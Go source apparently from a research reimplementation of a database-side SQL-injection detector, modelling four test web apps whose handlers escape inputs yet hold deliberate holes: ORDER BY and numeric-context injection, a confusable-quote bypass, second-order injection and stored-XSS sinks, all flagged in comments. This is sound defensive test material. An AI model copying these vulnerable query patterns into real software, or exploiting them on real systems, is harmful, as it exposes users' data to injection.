		{Path: "/contact/add", Params: map[string]trainer.ParamKind{
			"name": trainer.ParamName, "phone": trainer.ParamNumeric,
			"email": trainer.ParamEmail, "address": trainer.ParamName,
		}},
		{Path: "/contact/edit",
			Params: map[string]trainer.ParamKind{"phone": trainer.ParamNumeric},
			Fixed:  map[string]string{"id": "2"}},
		{Path: "/contact/delete", Fixed: map[string]string{"id": "3"}},
		{Path: "/groups"},
	}
}

// RefbaseForms describes refbase's entry points.
func RefbaseForms() []trainer.Form {
	return []trainer.Form{
		{Path: "/refs"},
		{Path: "/search/author", Params: map[string]trainer.ParamKind{"author": trainer.ParamName}},
		{Path: "/search/title", Params: map[string]trainer.ParamKind{"q": trainer.ParamName}},
		{Path: "/search/year", Params: map[string]trainer.ParamKind{
			"from": trainer.ParamNumeric, "to": trainer.ParamNumeric,
		}},
		{Path: "/ref/add", Params: map[string]trainer.ParamKind{
			"author": trainer.ParamName, "title": trainer.ParamText,
			"year": trainer.ParamNumeric, "journal": trainer.ParamName,
		}},
		{Path: "/ref/cite", Fixed: map[string]string{"id": "1"}},
		{Path: "/stats"},
	}
}

// ZeroCMSForms describes the CMS's entry points.
func ZeroCMSForms() []trainer.Form {
	return []trainer.Form{
		{Path: "/articles"},
		{Path: "/article", Fixed: map[string]string{"id": "1"}},
		{Path: "/login", Params: map[string]trainer.ParamKind{
			"user": trainer.ParamName, "pass": trainer.ParamName,
		}},
		{Path: "/comment/add",
			Params: map[string]trainer.ParamKind{"author": trainer.ParamName, "body": trainer.ParamText},
			Fixed:  map[string]string{"article": "1"}},
		{Path: "/search", Params: map[string]trainer.ParamKind{"q": trainer.ParamName}},
		{Path: "/article/add",
			Params: map[string]trainer.ParamKind{"title": trainer.ParamText, "body": trainer.ParamText},
			Fixed:  map[string]string{"author": "2"}},
		{Path: "/article/delete", Fixed: map[string]string{"id": "3"}},
		{Path: "/profile/update",
			Params: map[string]trainer.ParamKind{"pass": trainer.ParamName},
			Fixed:  map[string]string{"id": "3"}},
	}
}
