package apps

import (
	"errors"
	"fmt"

	"github.com/septic-db/septic/internal/webapp"
)

// AddressBookSchema returns DDL and seed data for the PHP Address Book
// model (one of the three §II-F performance-study applications).
func AddressBookSchema() []string {
	return []string{
		`CREATE TABLE IF NOT EXISTS contacts (
			id INT PRIMARY KEY AUTO_INCREMENT,
			name TEXT NOT NULL,
			phone TEXT,
			email TEXT,
			address TEXT,
			grp TEXT DEFAULT 'friends')`,
		`INSERT INTO contacts (name, phone, email, address, grp) VALUES
			('Ana Silva', '912000001', 'ana@example.com', 'Lisboa', 'family'),
			('Bruno Costa', '912000002', 'bruno@example.com', 'Porto', 'work'),
			('Carla Dias', '912000003', 'carla@example.com', 'Faro', 'friends'),
			('Diogo Nunes', '912000004', 'diogo@example.com', 'Braga', 'work')`,
	}
}

// NewAddressBook builds the address-book application.
func NewAddressBook(db webapp.Executor) *webapp.App {
	app := webapp.NewApp("addressbook", db)

	app.Handle("/contacts", func(c *webapp.Ctx) {
		res, err := c.Query("/* ab:list */ SELECT id, name, phone FROM contacts ORDER BY name")
		if err != nil {
			return
		}
		for _, row := range res.Rows {
			c.Writef("%s: %s %s\n", row[0], webapp.HTMLSpecialChars(row[1].String()), row[2])
		}
	})

	// Search by name with LIKE: escaped string context.
	app.Handle("/search", func(c *webapp.Ctx) {
		q := webapp.MySQLRealEscapeString(c.Param("q"))
		res, err := c.Query("/* ab:search */ SELECT name, email FROM contacts WHERE name LIKE '%" + q + "%' ORDER BY name")
		if err != nil {
			return
		}
		c.Writef("%d results\n", len(res.Rows))
		for _, row := range res.Rows {
			c.Writef("%s <%s>\n", webapp.HTMLSpecialChars(row[0].String()), row[1])
		}
	})

	// View one contact: numeric context, escaped but unquoted.
	app.Handle("/contact", func(c *webapp.Ctx) {
		id := webapp.MySQLRealEscapeString(c.Param("id"))
		res, err := c.Query("/* ab:view */ SELECT name, phone, email, address FROM contacts WHERE id = " + id)
		if err != nil {
			return
		}
		for _, row := range res.Rows {
			c.Writef("%s / %s / %s / %s\n", row[0], row[1], row[2], row[3])
		}
	})

	app.Handle("/contact/add", func(c *webapp.Ctx) {
		name := webapp.MySQLRealEscapeString(c.Param("name"))
		phone := webapp.MySQLRealEscapeString(c.Param("phone"))
		email := webapp.MySQLRealEscapeString(c.Param("email"))
		address := webapp.MySQLRealEscapeString(c.Param("address"))
		if name == "" {
			c.Fail(400, errors.New("name required"))
			return
		}
		_, err := c.Query(fmt.Sprintf(
			"/* ab:add */ INSERT INTO contacts (name, phone, email, address) VALUES ('%s', '%s', '%s', '%s')",
			name, phone, email, address))
		if err != nil {
			return
		}
		c.Write("contact added\n")
	})

	app.Handle("/contact/edit", func(c *webapp.Ctx) {
		id := c.Param("id")
		if !webapp.IsNumeric(id) {
			c.Fail(400, errors.New("numeric id required"))
			return
		}
		phone := webapp.MySQLRealEscapeString(c.Param("phone"))
		_, err := c.Query(fmt.Sprintf(
			"/* ab:edit */ UPDATE contacts SET phone = '%s' WHERE id = %s", phone, id))
		if err != nil {
			return
		}
		c.Write("contact updated\n")
	})

	app.Handle("/contact/delete", func(c *webapp.Ctx) {
		id := c.Param("id")
		if !webapp.IsNumeric(id) {
			c.Fail(400, errors.New("numeric id required"))
			return
		}
		if _, err := c.Query("/* ab:delete */ DELETE FROM contacts WHERE id = " + id); err != nil {
			return
		}
		c.Write("contact deleted\n")
	})

	app.Handle("/groups", func(c *webapp.Ctx) {
		res, err := c.Query("/* ab:groups */ SELECT grp, COUNT(*) FROM contacts GROUP BY grp ORDER BY grp")
		if err != nil {
			return
		}
		for _, row := range res.Rows {
			c.Writef("%s: %s\n", row[0], row[1])
		}
	})

	return app
}

// AddressBookTraining covers every page with benign inputs.
func AddressBookTraining() []webapp.Request {
	return []webapp.Request{
		{Path: "/contacts", Params: map[string]string{}},
		{Path: "/search", Params: map[string]string{"q": "ana"}},
		{Path: "/contact", Params: map[string]string{"id": "1"}},
		{Path: "/contact/add", Params: map[string]string{"name": "Eva Reis", "phone": "912000005", "email": "eva@example.com", "address": "Aveiro"}},
		{Path: "/contact/edit", Params: map[string]string{"id": "2", "phone": "913000000"}},
		{Path: "/contact/delete", Params: map[string]string{"id": "4"}},
		{Path: "/groups", Params: map[string]string{}},
	}
}

// AddressBookWorkload is the measurement workload: 12 requests, as in
// the paper's BenchLab recording for PHP Address Book.
func AddressBookWorkload() []webapp.Request {
	return []webapp.Request{
		{Path: "/contacts", Params: map[string]string{}},
		{Path: "/search", Params: map[string]string{"q": "a"}},
		{Path: "/contact", Params: map[string]string{"id": "1"}},
		{Path: "/contact", Params: map[string]string{"id": "2"}},
		{Path: "/groups", Params: map[string]string{}},
		{Path: "/contact/add", Params: map[string]string{"name": "Work Temp", "phone": "911111111", "email": "tmp@example.com", "address": "Lisboa"}},
		{Path: "/search", Params: map[string]string{"q": "temp"}},
		{Path: "/contact/edit", Params: map[string]string{"id": "3", "phone": "914444444"}},
		{Path: "/contact", Params: map[string]string{"id": "3"}},
		{Path: "/contacts", Params: map[string]string{}},
		{Path: "/search", Params: map[string]string{"q": "silva"}},
		{Path: "/groups", Params: map[string]string{}},
	}
}
