package apps

import (
	"errors"
	"fmt"

	"github.com/septic-db/septic/internal/webapp"
)

// RefbaseSchema returns DDL and seed data for the refbase model (the
// bibliography manager of the §II-F performance study).
func RefbaseSchema() []string {
	return []string{
		`CREATE TABLE IF NOT EXISTS refs (
			id INT PRIMARY KEY AUTO_INCREMENT,
			author TEXT NOT NULL,
			title TEXT NOT NULL,
			year INT,
			journal TEXT,
			cites INT DEFAULT 0)`,
		`INSERT INTO refs (author, title, year, journal, cites) VALUES
			('Medeiros', 'Hacking the DBMS to prevent injection attacks', 2016, 'CODASPY', 42),
			('Halfond', 'AMNESIA: analysis and monitoring', 2005, 'ASE', 310),
			('Boyd', 'SQLrand: preventing SQL injection attacks', 2004, 'ACNS', 250),
			('Su', 'The essence of command injection attacks', 2006, 'POPL', 400),
			('Buehrer', 'Using parse tree validation', 2005, 'SEM', 190)`,
	}
}

// NewRefbase builds the bibliography application.
func NewRefbase(db webapp.Executor) *webapp.App {
	app := webapp.NewApp("refbase", db)

	app.Handle("/refs", func(c *webapp.Ctx) {
		res, err := c.Query("/* rb:list */ SELECT id, author, title, year FROM refs ORDER BY year DESC")
		if err != nil {
			return
		}
		for _, row := range res.Rows {
			c.Writef("[%s] %s: %s (%s)\n", row[0], row[1], row[2], row[3])
		}
	})

	app.Handle("/search/author", func(c *webapp.Ctx) {
		author := webapp.MySQLRealEscapeString(c.Param("author"))
		res, err := c.Query("/* rb:by-author */ SELECT title, year FROM refs WHERE author = '" + author + "' ORDER BY year")
		if err != nil {
			return
		}
		c.Writef("%d hits\n", len(res.Rows))
	})

	app.Handle("/search/title", func(c *webapp.Ctx) {
		q := webapp.MySQLRealEscapeString(c.Param("q"))
		res, err := c.Query("/* rb:by-title */ SELECT author, title FROM refs WHERE title LIKE '%" + q + "%'")
		if err != nil {
			return
		}
		c.Writef("%d hits\n", len(res.Rows))
	})

	// Search by year range: numeric context, escaped but unquoted.
	app.Handle("/search/year", func(c *webapp.Ctx) {
		from := webapp.MySQLRealEscapeString(c.Param("from"))
		to := webapp.MySQLRealEscapeString(c.Param("to"))
		res, err := c.Query(fmt.Sprintf(
			"/* rb:by-year */ SELECT author, title, year FROM refs WHERE year BETWEEN %s AND %s ORDER BY year", from, to))
		if err != nil {
			return
		}
		c.Writef("%d hits\n", len(res.Rows))
	})

	app.Handle("/ref/add", func(c *webapp.Ctx) {
		author := webapp.MySQLRealEscapeString(c.Param("author"))
		title := webapp.MySQLRealEscapeString(c.Param("title"))
		year := c.Param("year")
		if !webapp.IsNumeric(year) {
			c.Fail(400, errors.New("numeric year required"))
			return
		}
		journal := webapp.MySQLRealEscapeString(c.Param("journal"))
		_, err := c.Query(fmt.Sprintf(
			"/* rb:add */ INSERT INTO refs (author, title, year, journal) VALUES ('%s', '%s', %s, '%s')",
			author, title, year, journal))
		if err != nil {
			return
		}
		c.Write("reference added\n")
	})

	app.Handle("/ref/cite", func(c *webapp.Ctx) {
		id := c.Param("id")
		if !webapp.IsNumeric(id) {
			c.Fail(400, errors.New("numeric id required"))
			return
		}
		if _, err := c.Query("/* rb:cite */ UPDATE refs SET cites = cites + 1 WHERE id = " + id); err != nil {
			return
		}
		c.Write("cited\n")
	})

	app.Handle("/stats", func(c *webapp.Ctx) {
		res, err := c.Query("/* rb:stats */ SELECT COUNT(*), MIN(year), MAX(year), AVG(cites) FROM refs")
		if err != nil {
			return
		}
		row := res.Rows[0]
		c.Writef("refs=%s span=%s-%s avg-cites=%s\n", row[0], row[1], row[2], row[3])
	})

	return app
}

// RefbaseTraining covers every page with benign inputs.
func RefbaseTraining() []webapp.Request {
	return []webapp.Request{
		{Path: "/refs", Params: map[string]string{}},
		{Path: "/search/author", Params: map[string]string{"author": "Medeiros"}},
		{Path: "/search/title", Params: map[string]string{"q": "injection"}},
		{Path: "/search/year", Params: map[string]string{"from": "2004", "to": "2016"}},
		{Path: "/ref/add", Params: map[string]string{"author": "Son", "title": "Diglossia", "year": "2013", "journal": "CCS"}},
		{Path: "/ref/cite", Params: map[string]string{"id": "1"}},
		{Path: "/stats", Params: map[string]string{}},
	}
}

// RefbaseWorkload is the measurement workload: 14 requests, as in the
// paper's BenchLab recording for refbase.
func RefbaseWorkload() []webapp.Request {
	return []webapp.Request{
		{Path: "/refs", Params: map[string]string{}},
		{Path: "/search/author", Params: map[string]string{"author": "Halfond"}},
		{Path: "/search/title", Params: map[string]string{"q": "SQL"}},
		{Path: "/search/year", Params: map[string]string{"from": "2000", "to": "2010"}},
		{Path: "/stats", Params: map[string]string{}},
		{Path: "/ref/cite", Params: map[string]string{"id": "2"}},
		{Path: "/refs", Params: map[string]string{}},
		{Path: "/search/author", Params: map[string]string{"author": "Su"}},
		{Path: "/search/title", Params: map[string]string{"q": "attack"}},
		{Path: "/ref/add", Params: map[string]string{"author": "Xu", "title": "Taint analysis", "year": "2005", "journal": "TR"}},
		{Path: "/search/year", Params: map[string]string{"from": "2005", "to": "2006"}},
		{Path: "/ref/cite", Params: map[string]string{"id": "3"}},
		{Path: "/stats", Params: map[string]string{}},
		{Path: "/refs", Params: map[string]string{}},
	}
}
