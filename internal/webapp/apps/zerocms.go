package apps

import (
	"errors"
	"fmt"

	"github.com/septic-db/septic/internal/webapp"
)

// ZeroCMSSchema returns DDL and seed data for the ZeroCMS model (the
// content-management system of the §II-F performance study — its
// workload is the largest of the three, with queries of several types).
func ZeroCMSSchema() []string {
	return []string{
		`CREATE TABLE IF NOT EXISTS cms_users (
			id INT PRIMARY KEY AUTO_INCREMENT,
			username TEXT NOT NULL,
			password TEXT NOT NULL,
			role TEXT DEFAULT 'reader')`,
		`CREATE TABLE IF NOT EXISTS articles (
			id INT PRIMARY KEY AUTO_INCREMENT,
			title TEXT NOT NULL,
			body TEXT,
			author_id INT,
			views INT DEFAULT 0)`,
		`CREATE TABLE IF NOT EXISTS cms_comments (
			id INT PRIMARY KEY AUTO_INCREMENT,
			article_id INT NOT NULL,
			author TEXT,
			body TEXT)`,
		`INSERT INTO cms_users (username, password, role) VALUES
			('admin', 'c2VjcmV0', 'admin'),
			('editor', 'ZWRpdG9y', 'editor'),
			('reader', 'cmVhZGVy', 'reader')`,
		`INSERT INTO articles (title, body, author_id) VALUES
			('Welcome', 'First post of the CMS.', 1),
			('Security notes', 'Always sanitize inputs (or so they say).', 2),
			('Energy savings', 'Monitor your devices.', 2)`,
		`INSERT INTO cms_comments (article_id, author, body) VALUES
			(1, 'reader', 'nice site'),
			(2, 'reader', 'very informative')`,
	}
}

// NewZeroCMS builds the CMS application.
func NewZeroCMS(db webapp.Executor) *webapp.App {
	app := webapp.NewApp("zerocms", db)

	app.Handle("/articles", func(c *webapp.Ctx) {
		res, err := c.Query("/* cms:list */ SELECT id, title, views FROM articles ORDER BY id DESC")
		if err != nil {
			return
		}
		for _, row := range res.Rows {
			c.Writef("[%s] %s (%s views)\n", row[0], webapp.HTMLSpecialChars(row[1].String()), row[2])
		}
	})

	// Article view: numeric context + a piggybacked view counter UPDATE.
	app.Handle("/article", func(c *webapp.Ctx) {
		id := webapp.MySQLRealEscapeString(c.Param("id"))
		res, err := c.Query("/* cms:article */ SELECT title, body FROM articles WHERE id = " + id)
		if err != nil {
			return
		}
		if len(res.Rows) == 0 {
			c.Write("not found\n")
			return
		}
		c.Writef("%s\n%s\n", res.Rows[0][0], res.Rows[0][1])
		if _, err := c.Query("/* cms:views */ UPDATE articles SET views = views + 1 WHERE id = " + id); err != nil {
			return
		}
		cres, err := c.Query("/* cms:comments */ SELECT author, body FROM cms_comments WHERE article_id = " + id + " ORDER BY id")
		if err != nil {
			return
		}
		for _, row := range cres.Rows {
			// Comments echoed verbatim: the stored-XSS output path.
			c.Writef("%s: %s\n", row[0], row[1])
		}
	})

	// Login: the classic authentication query, string context both sides.
	app.Handle("/login", func(c *webapp.Ctx) {
		user := webapp.MySQLRealEscapeString(c.Param("user"))
		pass := webapp.MySQLRealEscapeString(c.Param("pass"))
		res, err := c.Query(fmt.Sprintf(
			"/* cms:login */ SELECT id, role FROM cms_users WHERE username = '%s' AND password = '%s'", user, pass))
		if err != nil {
			return
		}
		if len(res.Rows) == 1 {
			c.Writef("welcome, role=%s\n", res.Rows[0][1])
		} else {
			c.Write("login failed\n")
		}
	})

	// Comment add: quotes escaped, markup passes — stored XSS sink.
	app.Handle("/comment/add", func(c *webapp.Ctx) {
		article := c.Param("article")
		if !webapp.IsNumeric(article) {
			c.Fail(400, errors.New("numeric article id required"))
			return
		}
		author := webapp.MySQLRealEscapeString(c.Param("author"))
		body := webapp.MySQLRealEscapeString(c.Param("body"))
		_, err := c.Query(fmt.Sprintf(
			"/* cms:comment-add */ INSERT INTO cms_comments (article_id, author, body) VALUES (%s, '%s', '%s')",
			article, author, body))
		if err != nil {
			return
		}
		c.Write("comment added\n")
	})

	app.Handle("/search", func(c *webapp.Ctx) {
		q := webapp.MySQLRealEscapeString(c.Param("q"))
		res, err := c.Query("/* cms:search */ SELECT id, title FROM articles WHERE title LIKE '%" + q + "%' OR body LIKE '%" + q + "%'")
		if err != nil {
			return
		}
		c.Writef("%d results\n", len(res.Rows))
	})

	app.Handle("/article/add", func(c *webapp.Ctx) {
		title := webapp.MySQLRealEscapeString(c.Param("title"))
		body := webapp.MySQLRealEscapeString(c.Param("body"))
		author := c.Param("author")
		if !webapp.IsNumeric(author) {
			c.Fail(400, errors.New("numeric author id required"))
			return
		}
		_, err := c.Query(fmt.Sprintf(
			"/* cms:article-add */ INSERT INTO articles (title, body, author_id) VALUES ('%s', '%s', %s)",
			title, body, author))
		if err != nil {
			return
		}
		c.Write("article published\n")
	})

	app.Handle("/article/delete", func(c *webapp.Ctx) {
		id := c.Param("id")
		if !webapp.IsNumeric(id) {
			c.Fail(400, errors.New("numeric id required"))
			return
		}
		if _, err := c.Query("/* cms:article-delete */ DELETE FROM articles WHERE id = " + id); err != nil {
			return
		}
		if _, err := c.Query("/* cms:comment-gc */ DELETE FROM cms_comments WHERE article_id = " + id); err != nil {
			return
		}
		c.Write("article removed\n")
	})

	app.Handle("/profile/update", func(c *webapp.Ctx) {
		id := c.Param("id")
		if !webapp.IsNumeric(id) {
			c.Fail(400, errors.New("numeric id required"))
			return
		}
		pass := webapp.MySQLRealEscapeString(c.Param("pass"))
		if _, err := c.Query(fmt.Sprintf(
			"/* cms:pass */ UPDATE cms_users SET password = '%s' WHERE id = %s", pass, id)); err != nil {
			return
		}
		c.Write("password changed\n")
	})

	return app
}

// ZeroCMSTraining covers every page with benign inputs.
func ZeroCMSTraining() []webapp.Request {
	return []webapp.Request{
		{Path: "/articles", Params: map[string]string{}},
		{Path: "/article", Params: map[string]string{"id": "1"}},
		{Path: "/login", Params: map[string]string{"user": "reader", "pass": "cmVhZGVy"}},
		{Path: "/comment/add", Params: map[string]string{"article": "1", "author": "reader", "body": "thanks"}},
		{Path: "/search", Params: map[string]string{"q": "welcome"}},
		{Path: "/article/add", Params: map[string]string{"title": "Draft", "body": "text", "author": "2"}},
		{Path: "/article/delete", Params: map[string]string{"id": "4"}},
		{Path: "/profile/update", Params: map[string]string{"id": "3", "pass": "bmV3"}},
	}
}

// ZeroCMSWorkload is the measurement workload: 26 requests with queries
// of several types (SELECT, UPDATE, INSERT, DELETE), as in the paper's
// BenchLab recording for ZeroCMS.
func ZeroCMSWorkload() []webapp.Request {
	return []webapp.Request{
		{Path: "/articles", Params: map[string]string{}},
		{Path: "/article", Params: map[string]string{"id": "1"}},
		{Path: "/article", Params: map[string]string{"id": "2"}},
		{Path: "/login", Params: map[string]string{"user": "reader", "pass": "cmVhZGVy"}},
		{Path: "/search", Params: map[string]string{"q": "energy"}},
		{Path: "/article", Params: map[string]string{"id": "3"}},
		{Path: "/comment/add", Params: map[string]string{"article": "3", "author": "reader", "body": "useful"}},
		{Path: "/articles", Params: map[string]string{}},
		{Path: "/article", Params: map[string]string{"id": "3"}},
		{Path: "/search", Params: map[string]string{"q": "security"}},
		{Path: "/article", Params: map[string]string{"id": "2"}},
		{Path: "/comment/add", Params: map[string]string{"article": "2", "author": "reader", "body": "agree"}},
		{Path: "/login", Params: map[string]string{"user": "editor", "pass": "ZWRpdG9y"}},
		{Path: "/article/add", Params: map[string]string{"title": "Tips", "body": "Save power.", "author": "2"}},
		{Path: "/articles", Params: map[string]string{}},
		{Path: "/article", Params: map[string]string{"id": "4"}},
		{Path: "/search", Params: map[string]string{"q": "tips"}},
		{Path: "/comment/add", Params: map[string]string{"article": "4", "author": "reader", "body": "nice"}},
		{Path: "/article", Params: map[string]string{"id": "4"}},
		{Path: "/profile/update", Params: map[string]string{"id": "3", "pass": "YW5vdGhlcg"}},
		{Path: "/login", Params: map[string]string{"user": "reader", "pass": "YW5vdGhlcg"}},
		{Path: "/articles", Params: map[string]string{}},
		{Path: "/article/delete", Params: map[string]string{"id": "4"}},
		{Path: "/articles", Params: map[string]string{}},
		{Path: "/search", Params: map[string]string{"q": "welcome"}},
		{Path: "/article", Params: map[string]string{"id": "1"}},
	}
}
