// Package apps models the four web applications of the paper: WaspMon
// (the §III demonstration scenario) and the three performance-study
// applications PHP Address Book, refbase and ZeroCMS (§II-F).
//
// Each application follows the paper's premise: "the programmer was
// careful and used PHP sanitization functions to check all inputs before
// inserting them in queries" — and is nevertheless vulnerable to the
// semantic-mismatch attack classes, because the sanitizers' byte-level
// semantics do not survive the DBMS's own decoding.
package apps

import (
	"errors"
	"fmt"

	"github.com/septic-db/septic/internal/engine"
	"github.com/septic-db/septic/internal/webapp"
)

// WaspMonSchema returns the DDL and seed data for the energy-monitoring
// application (run it through the database before serving requests).
func WaspMonSchema() []string {
	return []string{
		`CREATE TABLE IF NOT EXISTS devices (
			id INT PRIMARY KEY AUTO_INCREMENT,
			name TEXT NOT NULL,
			location TEXT,
			maxWatts INT DEFAULT 0)`,
		`CREATE TABLE IF NOT EXISTS readings (
			id INT PRIMARY KEY AUTO_INCREMENT,
			device_id INT NOT NULL,
			ts INT NOT NULL,
			watts FLOAT NOT NULL)`,
		`CREATE TABLE IF NOT EXISTS wm_users (
			id INT PRIMARY KEY AUTO_INCREMENT,
			username TEXT NOT NULL,
			email TEXT,
			notes TEXT)`,
		`INSERT INTO devices (name, location, maxWatts) VALUES
			('heatpump', 'basement', 4000),
			('oven', 'kitchen', 3600),
			('ev-charger', 'garage', 11000)`,
		`INSERT INTO readings (device_id, ts, watts) VALUES
			(1, 100, 1200.5), (1, 200, 1350.0), (2, 150, 2200.0),
			(3, 300, 7300.0), (3, 400, 10100.0)`,
		`INSERT INTO wm_users (username, email, notes) VALUES
			('operator', 'op@example.com', 'day shift')`,
	}
}

// NewWaspMon builds the WaspMon application over db. Its handlers
// sanitize every entry point — with the PHP functions' real semantics —
// and build queries by string concatenation, the idiom under study.
func NewWaspMon(db webapp.Executor) *webapp.App {
	app := webapp.NewApp("waspmon", db)

	// GET /devices[?sort=] — list devices. The sort column is escaped and
	// concatenated into identifier context, where escaping is a no-op:
	// the classic ORDER BY injection surface. (The safe idiom is a
	// whitelist switch; this programmer skipped it.)
	app.Handle("/devices", func(c *webapp.Ctx) {
		sort := webapp.MySQLRealEscapeString(c.Param("sort"))
		if sort == "" {
			sort = "name"
		}
		res, err := c.Query("/* waspmon:devices */ SELECT id, name, location FROM devices ORDER BY " + sort)
		if err != nil {
			return
		}
		for _, row := range res.Rows {
			c.Writef("<li>%s (%s)</li>\n",
				webapp.HTMLSpecialChars(row[1].String()),
				webapp.HTMLSpecialChars(row[2].String()))
		}
	})

	// GET /device/view?name= — show one device. The name is escaped with
	// mysql_real_escape_string; a U+02BC payload survives it and becomes
	// a live quote inside the DBMS (first-order semantic mismatch).
	app.Handle("/device/view", func(c *webapp.Ctx) {
		name := webapp.MySQLRealEscapeString(c.Param("name"))
		res, err := c.Query("/* waspmon:device-view */ SELECT id, name, location, maxWatts FROM devices WHERE name = '" + name + "'")
		if err != nil {
			return
		}
		if len(res.Rows) == 0 {
			c.Write("device not found\n")
			return
		}
		for _, row := range res.Rows {
			c.Writef("device %s: %s @ %s, max %s W\n",
				row[0], webapp.HTMLSpecialChars(row[1].String()),
				webapp.HTMLSpecialChars(row[2].String()), row[3])
		}
	})

	// POST /device/add — create a device (sanitized INSERT).
	app.Handle("/device/add", func(c *webapp.Ctx) {
		name := webapp.MySQLRealEscapeString(c.Param("name"))
		location := webapp.MySQLRealEscapeString(c.Param("location"))
		maxW := c.Param("maxWatts")
		if !webapp.IsNumeric(maxW) {
			maxW = "0"
		}
		_, err := c.Query(fmt.Sprintf(
			"/* waspmon:device-add */ INSERT INTO devices (name, location, maxWatts) VALUES ('%s', '%s', %s)",
			name, location, maxW))
		if err != nil {
			return
		}
		c.Write("device added\n")
	})

	// GET /reading/history?device=&limit= — readings for one device.
	// The device id is escaped but concatenated into NUMERIC context —
	// escaping is a no-op there, the classic numeric-context injection.
	app.Handle("/reading/history", func(c *webapp.Ctx) {
		device := webapp.MySQLRealEscapeString(c.Param("device"))
		limit := c.Param("limit")
		if !webapp.IsNumeric(limit) {
			limit = "10"
		}
		res, err := c.Query(fmt.Sprintf(
			"/* waspmon:history */ SELECT ts, watts FROM readings WHERE device_id = %s ORDER BY ts DESC LIMIT %s",
			device, limit))
		if err != nil {
			return
		}
		for _, row := range res.Rows {
			c.Writef("t=%s %sW\n", row[0], row[1])
		}
	})

	// POST /reading/add — store a reading (numeric params validated with
	// is_numeric, the correct defence in numeric context).
	app.Handle("/reading/add", func(c *webapp.Ctx) {
		device := c.Param("device")
		ts := c.Param("ts")
		watts := c.Param("watts")
		if !webapp.IsNumeric(device) || !webapp.IsNumeric(ts) || !webapp.IsNumeric(watts) {
			c.Fail(400, errors.New("numeric parameters required"))
			return
		}
		if _, err := c.Query(fmt.Sprintf(
			"/* waspmon:reading-add */ INSERT INTO readings (device_id, ts, watts) VALUES (%s, %s, %s)",
			device, ts, watts)); err != nil {
			return
		}
		c.Write("reading stored\n")
	})

	// POST /user/register — create a user. Inputs escaped; the DBMS
	// stores the *unescaped* value (the lexer consumed the backslashes),
	// arming the second-order attack.
	app.Handle("/user/register", func(c *webapp.Ctx) {
		username := webapp.MySQLRealEscapeString(c.Param("username"))
		email := webapp.MySQLRealEscapeString(c.Param("email"))
		notes := webapp.MySQLRealEscapeString(c.Param("notes"))
		if _, err := c.Query(fmt.Sprintf(
			"/* waspmon:register */ INSERT INTO wm_users (username, email, notes) VALUES ('%s', '%s', '%s')",
			username, email, notes)); err != nil {
			return
		}
		c.Write("registered\n")
	})

	// POST /user/register2 — the "modernized" registration endpoint: it
	// uses a prepared statement, so the value is bound in the AST and
	// bypasses the text pipeline entirely — including the DBMS charset
	// decode, exactly like MySQL's binary protocol. The write is safe;
	// the stored bytes are verbatim. (Which is how a confusable payload
	// survives storage and detonates on a later concatenated read.)
	app.Handle("/user/register2", func(c *webapp.Ctx) {
		if _, err := c.QueryArgs(
			"/* waspmon:register2 */ INSERT INTO wm_users (username, email, notes) VALUES (?, ?, ?)",
			engine.Str(c.Param("username")), engine.Str(c.Param("email")), engine.Str(c.Param("notes"))); err != nil {
			return
		}
		c.Write("registered (v2)\n")
	})

	// GET /user/profile?id= — show a user, then look up devices "owned"
	// by the username READ BACK FROM THE DATABASE. The programmer
	// trusted stored data and concatenated it without re-escaping: the
	// second-order injection sink (§II-D1 step 2).
	app.Handle("/user/profile", func(c *webapp.Ctx) {
		id := c.Param("id")
		if !webapp.IsNumeric(id) {
			c.Fail(400, errors.New("numeric id required"))
			return
		}
		res, err := c.Query("/* waspmon:profile */ SELECT username, email FROM wm_users WHERE id = " + id)
		if err != nil {
			return
		}
		if len(res.Rows) == 0 {
			c.Write("no such user\n")
			return
		}
		username := res.Rows[0][0].String() // stored data, NOT re-escaped
		res, err = c.Query("/* waspmon:profile-devices */ SELECT name FROM devices WHERE location = '" + username + "'")
		if err != nil {
			return
		}
		c.Writef("user has %d devices\n", len(res.Rows))
	})

	// POST /note/add?id=&notes= — update a user's notes. Quotes are
	// escaped but markup passes: the stored-XSS sink (the notes are
	// echoed by /note/view).
	app.Handle("/note/add", func(c *webapp.Ctx) {
		id := c.Param("id")
		if !webapp.IsNumeric(id) {
			c.Fail(400, errors.New("numeric id required"))
			return
		}
		notes := webapp.MySQLRealEscapeString(c.Param("notes"))
		if _, err := c.Query(fmt.Sprintf(
			"/* waspmon:note-add */ UPDATE wm_users SET notes = '%s' WHERE id = %s", notes, id)); err != nil {
			return
		}
		c.Write("notes saved\n")
	})

	// GET /note/view?id= — echo the stored notes verbatim (the vulnerable
	// output path stored XSS needs).
	app.Handle("/note/view", func(c *webapp.Ctx) {
		id := c.Param("id")
		if !webapp.IsNumeric(id) {
			c.Fail(400, errors.New("numeric id required"))
			return
		}
		res, err := c.Query("/* waspmon:note-view */ SELECT notes FROM wm_users WHERE id = " + id)
		if err != nil {
			return
		}
		for _, row := range res.Rows {
			c.Write(row[0].String()) // no output encoding: stored XSS fires here
			c.Write("\n")
		}
	})

	return app
}

// WaspMonTraining returns benign requests covering every WaspMon page —
// what the paper's septic training module (a crawler injecting benign
// inputs into forms) would generate.
func WaspMonTraining() []webapp.Request {
	return []webapp.Request{
		{Path: "/devices", Params: map[string]string{}},
		{Path: "/device/view", Params: map[string]string{"name": "heatpump"}},
		{Path: "/device/add", Params: map[string]string{"name": "fridge", "location": "kitchen", "maxWatts": "300"}},
		{Path: "/reading/history", Params: map[string]string{"device": "1", "limit": "5"}},
		{Path: "/reading/add", Params: map[string]string{"device": "2", "ts": "500", "watts": "900"}},
		{Path: "/user/register", Params: map[string]string{"username": "alice", "email": "a@example.com", "notes": "hi"}},
		{Path: "/user/register2", Params: map[string]string{"username": "bob", "email": "b@example.com", "notes": "hey"}},
		{Path: "/user/profile", Params: map[string]string{"id": "1"}},
		{Path: "/note/add", Params: map[string]string{"id": "1", "notes": "routine check"}},
		{Path: "/note/view", Params: map[string]string{"id": "1"}},
	}
}

// WaspMonWorkload returns the benign measurement workload (a plausible
// operator session).
func WaspMonWorkload() []webapp.Request {
	return []webapp.Request{
		{Path: "/devices", Params: map[string]string{}},
		{Path: "/device/view", Params: map[string]string{"name": "oven"}},
		{Path: "/reading/add", Params: map[string]string{"device": "1", "ts": "600", "watts": "1300"}},
		{Path: "/reading/history", Params: map[string]string{"device": "1", "limit": "10"}},
		{Path: "/device/view", Params: map[string]string{"name": "ev-charger"}},
		{Path: "/reading/history", Params: map[string]string{"device": "3", "limit": "3"}},
		{Path: "/note/view", Params: map[string]string{"id": "1"}},
		{Path: "/user/profile", Params: map[string]string{"id": "1"}},
	}
}
