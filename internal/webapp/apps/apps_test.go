package apps

import (
